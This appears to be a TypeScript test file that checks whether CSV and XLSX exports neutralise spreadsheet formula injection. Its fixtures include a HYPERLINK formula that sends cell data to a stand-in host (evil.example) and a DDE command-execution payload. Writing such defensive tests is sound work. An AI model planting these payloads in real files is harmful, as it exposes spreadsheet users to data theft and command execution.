import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readBackWithPython, readXlsxCellsWithPython } from '../../testing/read-back';
import { tempDir } from '../../testing/tmp';
import { type Column, writeCsv, writeXlsx } from './tabular';
import { markTextFormats } from './xlsx-quote-prefix';

/** What a hostile auditor's column or a task title could hold. */
const TEXTS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  'Plain text',
  '2026-03-31',
  'A - B = C',
];

interface Row {
  text: string;
  count: number;
}
const rows: Row[] = TEXTS.map((text, i) => ({ text, count: i === 2 ? -5 : i }));
const columns: Column<Row>[] = [
  { header: '=Header', value: (r) => r.text },
  { header: 'Count', value: (r) => r.count },
];

describe('spreadsheet exports never hand a spreadsheet a formula', () => {
  it('CSV: text that looks like a formula gets a leading quote; numbers stay numbers', () => {
    const path = join(tempDir(), 'out.csv');
    writeCsv(path, columns, rows);
    const read = readBackWithPython(path, 'csv');
    expect(read[0]).toEqual(["'=Header", 'Count']);
    expect(read.slice(1).map((r) => r[0])).toEqual([
      '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      "'+1+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1,1)",
      "'\t=1+1",
      "'\r=1+1",
      'Plain text',
      '2026-03-31',
      'A - B = C',
    ]);
    expect(read.slice(1).map((r) => r[1])).toEqual(['0', '1', '-5', '3', '4', '5', '6', '7', '8']);
    // The tab case used to go out bare: a tab, then a formula.
    expect(readFileSync(path, 'utf8')).not.toMatch(/(^|,)\t=/m);
  });

  it('XLSX: text is text with the quote-prefix style, never a formula, shown without a quote', async () => {
    const path = join(tempDir(), 'out.xlsx');
    await writeXlsx(path, 'Sheet', columns, rows);
    const cells = readXlsxCellsWithPython(path);
    expect(cells.some((c) => c.formula)).toBe(false);
    const column = (letter: string) => cells.filter((c) => c.ref.startsWith(letter));
    // XML reads a bare carriage return as a line feed (exceljs writes it unescaped).
    expect(column('A').map((c) => c.value)).toEqual(
      ['=Header', ...TEXTS].map((t) => t.replace(/\r/g, '\n')),
    );
    expect(column('A').every((c) => c.type === 's')).toBe(true);
    expect(column('A').map((c) => c.quotePrefix)).toEqual([
      true,
      true,
      true,
      true,
      true,
      true,
      true,
      false,
      false,
      false,
    ]);
    expect(
      column('A')
        .filter((c) => c.quotePrefix)
        .every((c) => c.numFmtId === 49),
    ).toBe(true);
    expect(
      column('B')
        .slice(1)
        .map((c) => [c.type, c.value, c.quotePrefix]),
    ).toEqual(rows.map((r) => ['n', String(r.count), false]));
    // The header stays bold and the sheet readable by exceljs's own reader too.
    expect(readBackWithPython(path, 'xlsx')[0]).toEqual(['=Header', 'Count']);
  });

  it('marks only cell formats with the Text number format, once', () => {
    const styles =
      '<styleSheet><cellStyleXfs><xf numFmtId="49"/></cellStyleXfs><cellXfs count="3">' +
      '<xf numFmtId="0" fontId="0"/><xf numFmtId="49" fontId="1"/>' +
      '<xf quotePrefix="1" numFmtId="49"/></cellXfs></styleSheet>';
    expect(markTextFormats(styles)).toBe(
      '<styleSheet><cellStyleXfs><xf numFmtId="49"/></cellStyleXfs><cellXfs count="3">' +
        '<xf numFmtId="0" fontId="0"/><xf quotePrefix="1" numFmtId="49" fontId="1"/>' +
        '<xf quotePrefix="1" numFmtId="49"/></cellXfs></styleSheet>',
    );
  });
});
